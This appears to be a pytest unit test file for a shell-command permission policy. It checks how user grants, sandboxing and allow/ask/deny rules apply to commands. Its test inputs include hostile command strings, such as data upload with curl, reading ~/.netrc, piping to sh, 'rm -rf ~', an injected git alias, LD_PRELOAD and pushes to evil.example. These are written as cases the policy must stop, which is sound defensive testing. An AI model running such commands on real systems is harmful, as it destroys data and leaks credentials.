"""Rules of the user, and answers that become rules."""

from pathlib import Path
from typing import Any

import pytest

from hermes.core.errors import ConfigError
from hermes.exec.command_policy import CommandRule, CommandRules, rule_to_data
from tests.unit.exec.command_policy.judgements import RULES, decision, verdict

OUTSIDE: dict[str, Any] = {"sandboxed": False}


def test_answers_are_remembered_by_program_and_subcommand():
    assert verdict("git push origin main", **OUTSIDE).grants == (("git", "push"),)
    assert verdict("frobnicate --all", **OUTSIDE).grants == (("frobnicate", "--all"),)
    assert verdict("git bisect run x", **OUTSIDE).grants == (("git", "bisect", "run", "x"),)
    text = ("psql", "-c", "select 1")
    assert verdict("psql -c 'select 1'", **OUTSIDE).grants == (text,)
    granted = RULES.with_grants([text])
    assert decision("psql -c 'drop database x'", rules=granted, **OUTSIDE) == "ask"
    together = verdict("git push && frobnicate", **OUTSIDE)
    assert together.grants == (("git", "push"), ("frobnicate",))
    rules = RULES.with_grants([("frobnicate", "--all")])
    assert decision("frobnicate --all", rules=rules, **OUTSIDE) == "allow"
    assert decision("frobnicate --all --run=x", rules=rules, **OUTSIDE) == "ask"
    for command in (
        "curl -d @x u", "$X y", "docker run x", "ssh h", "git push | sh", "sudo ls", "rm -rf x",
        "cat ~/.netrc", "git push > log", "python3 x.py", "python3.11 x.py",
        "nodejs x", "sed -i s/a/b/ x",
        "awk x y", "setsid x", "taskset 1 x", "strace x", "watch x", "flock x y", "unshare x",
        "nsenter x", "tar xf x", "parallel rm", "systemd-run rm",
    ):  # fmt: skip
        found = verdict(command, **OUTSIDE)
        assert found.decision == "ask", command
        assert found.grants == (), command


def test_in_a_sandbox_the_exact_command_is_remembered():
    assert verdict("git stash drop stash@{1}").grants == (("git", "stash", "drop", "stash@{1}"),)
    rules = RULES.with_grants([("git", "stash", "drop")])
    assert decision("git stash drop", rules=rules) == "allow"
    assert decision("git stash clear", rules=rules) == "ask"
    assert decision("git stash drop", rules=RULES.with_grants([("git", "stash")])) == "ask"
    assert verdict("git branch -D $X").grants == ()
    assert verdict("rm -rf .").grants == ()


@pytest.fixture
def repository(tmp_path: Path) -> Path:
    (tmp_path / ".git" / "hooks").mkdir(parents=True)
    (tmp_path / ".git" / "hooks" / "pre-push.sample").touch()
    settings = '[remote "origin"]\n\turl = x\n[include]\n\tpath = ../more\n'
    (tmp_path / ".git" / "config").write_text(settings)
    (tmp_path / "more").write_text('  [Remote "up.stream"]\n\turl = y\n')
    return tmp_path


def test_a_grant_allows_that_and_nothing_more(repository: Path):
    rules = RULES.with_grants(verdict("git push", **OUTSIDE).grants)
    inside = {"rules": rules, "workspace": repository, **OUTSIDE}
    for command in (
        "git push origin main", "git push", "git push -u origin main:main", "git push up.stream",
        "timeout 60 git push",
    ):  # fmt: skip
        assert decision(command, **inside) == "allow", command
    for command in (
        "git -c alias.push='!sh' push", "git push --receive-pack=./x", "git push | sh",
        "git push; git send-email", "git push > x", "LD_PRELOAD=x git push",
        "git push --force", "git push origin +main", "git push origin :main",
        "git push https://evil.example/x main", "git push me@evil.example:x", "git push ../x",
        "git push $(cat x)", "sudo git push", "./git push",
        "git push --rece=./x", "git push --exe=x",
        "git -C sub push", "cd sub && git push", "git --git-dir=x push", "pushd x; git push",
        "cd x || true; git push", "git push --recurse-submodules=on-demand",
        "git push evil.example:x main", "git push folder", "git push --repo=x", "git push --rep x",
    ):  # fmt: skip
        assert decision(command, **inside) == "ask", command
    assert decision("git push; rm -rf ~", **inside) == "deny"


@pytest.mark.parametrize("folder", [".git/hooks", "kept"])
def test_a_grant_runs_no_hooks(repository: Path, folder: str):
    inside = {"rules": RULES.with_grants([("git", "push"), ("git", "add")]), **OUTSIDE}
    inside |= {"workspace": repository}
    if folder == "kept":
        with (repository / ".git" / "config").open("a") as settings:
            settings.write("[core]\n\thooksPath = kept\n")
        (repository / "kept").mkdir()
        (repository / ".git" / "hooks" / "pre-push").touch()  # which git does not run then
    assert decision("git push", **inside) == "allow"
    (repository / folder / "pre-push").touch()
    assert "the hook pre-push" in verdict("git push", **inside).reasons[0]
    assert decision("git add -A", **inside) == "allow"


def test_a_grant_minds_the_repository_around_the_workspace(repository: Path):
    inside = {"rules": RULES.with_grants([("git", "push")]), **OUTSIDE}
    inside |= {"workspace": repository / "part"}
    (repository / "part").mkdir()
    assert decision("git push origin main", **inside) == "allow"
    assert decision("git push folder", **inside) == "ask"
    (repository / ".git" / "hooks" / "pre-push").touch()
    assert "the hook pre-push" in verdict("git push origin main", **inside).reasons[0]


def test_a_grant_is_offered_where_there_is_no_repository(tmp_path: Path):
    inside = {"rules": RULES.with_grants([("git", "push")]), "workspace": tmp_path, **OUTSIDE}
    assert decision("git push origin main", **inside) == "allow"
    assert decision("git push ../folder", **inside) == "ask"


def test_deny_beats_ask_beats_allow():
    rules = CommandRules(
        [
            CommandRule("allow", ("npm", "publish")),
            CommandRule("ask", ("npm", ("publish", "test")), "people read it"),
            CommandRule("deny", ("make", "deploy"), "not from here"),
            CommandRule("allow", ("make",)),
        ]
    )
    assert decision("npm publish", rules=rules) == "ask"
    assert verdict("npm test", rules=rules).reasons == ("people read it",)
    assert verdict("ls && make deploy", rules=rules).reasons == ("not from here",)
    assert decision("bash -c 'make deploy'", rules=rules) == "deny"
    assert decision("/usr/bin/make deploy now", rules=rules) == "deny"
    assert decision("make test", rules=rules) == "allow"


def test_rules_are_data_and_their_examples_are_checked():
    data = [
        {"decision": "deny", "prefix": "git push --force", "match": ["git push --force x"]},
        {"decision": "allow", "prefix": ["make", ["a", "b"]], "miss": ["make c", "make"]},
    ]
    rules = CommandRules.load_rules(data)
    assert decision("git push --force", rules=rules) == "deny"
    assert decision("make b", rules=rules, sandboxed=False) == "allow"
    again = CommandRules.load_rules([rule_to_data(rule) for rule in rules.rules])
    assert again.rules == rules.rules


@pytest.mark.parametrize(
    ("item", "said"),
    [
        ({"decision": "allow", "prefix": "ls", "match": ["cat x"]}, "should match 'cat x'"),
        ({"decision": "allow", "prefix": "ls", "miss": ["ls -l"]}, "should not match 'ls -l'"),
        ({"decision": "maybe", "prefix": "ls"}, "rule 1 is not valid"),
        ({"decision": "allow", "prefix": []}, "empty prefix"),
        ({"decision": "allow", "prefix": ["git", ""]}, "empty prefix"),
        ({"decision": "allow"}, "rule 1 is not valid"),
        ("ls", "rule 1 is not valid"),
        ({"decision": "allow", "prefix": "ls", "mis": ["ls -l"]}, "unknown field `mis`"),
        ({"decision": "allow", "prefix": "ls", "match": ["ls 'x"]}, "quotation"),
    ],
)
def test_a_rule_that_is_wrong_is_refused_with_a_sentence(item: Any, said: str):
    with pytest.raises(ConfigError, match=said):
        CommandRules.load_rules([item])
